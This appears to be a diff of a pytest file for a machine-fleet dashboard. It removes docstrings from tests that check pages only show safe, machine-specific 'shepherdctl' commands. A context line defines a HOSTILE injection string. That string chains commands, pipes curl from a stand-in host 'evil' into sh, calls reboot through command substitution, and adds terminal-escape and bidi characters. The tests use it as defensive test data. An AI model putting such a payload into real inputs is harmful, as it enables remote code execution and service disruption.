@@ -14,13 +14,11 @@ HOSTILE = "srv-1; curl evil|sh \"'$(reboot)\n\x1b[201~\u202e"
 
 
 def written(line: str) -> str:
-    """Return a command with its reason."""
     return line.replace(REASON_TO_WRITE, "why")
 
 
 @pytest.fixture
 def machine_id(fleet: Fleet) -> UUID:
-    """Return a machine that fails, but is not held back."""
     machine_id = fleet.unhealthy_machine()
     fleet.sql(
         "INSERT INTO work_backoff (machine_id, process, until, kind, cause, last_interval_seconds) "
@@ -31,7 +29,6 @@ def machine_id(fleet: Fleet) -> UUID:
 
 
 def test_every_page_shows_commands_that_can_be_typed(visitor: Visitor, fleet: Fleet) -> None:
-    """Whatever machines, providers and operators wrote, nothing of it is a command."""
     hostile = plant_hostile_text(fleet, HOSTILE)
     fleet.sql("INSERT INTO machine_release VALUES (:id, now(), :t, :t)", id=fleet.reporting_machine(60), t=HOSTILE)
     fleet.sql(
@@ -53,7 +50,6 @@ def test_every_page_shows_commands_that_can_be_typed(visitor: Visitor, fleet: Fl
 
 
 def test_the_commands_of_a_machine_are_for_it_alone(visitor: Visitor, fleet: Fleet, machine_id: UUID) -> None:
-    """Each can be copied, and names the machine."""
     page = visitor.read(f"/machines/{machine_id}")
     assert commands(page) == [
         f"shepherdctl machine retry {machine_id} --reason '…'",
@@ -90,8 +86,6 @@ def test_the_commands_of_a_machine_are_for_it_alone(visitor: Visitor, fleet: Fle
 def test_the_commands_follow_the_state_of_the_machine(
     visitor: Visitor, fleet: Fleet, machine_id: UUID, change: str, more: set[str], less: set[str]
 ) -> None:
-    """A command that could only be refused is not shown."""
-
     def names() -> set[str]:
         return {parsed(written(line))[0] for line in commands(visitor.read(f"/machines/{machine_id}"))}
 
@@ -111,7 +105,6 @@ def test_a_pause_of_a_provider_is_told_from_one_of_the_machine(visitor: Visitor,
 
 
 def test_the_commands_of_a_list_are_for_what_it_shows(visitor: Visitor, fleet: Fleet) -> None:
-    """As their dry runs say."""
     shepherdctl = CommandLine(fleet.settings)
     wanted = fleet.locate(fleet.quarantine(fleet.unhealthy_machine(2 * HOUR)), "rack 7")
     fleet.locate(fleet.reporting_machine(60), "rack 7")
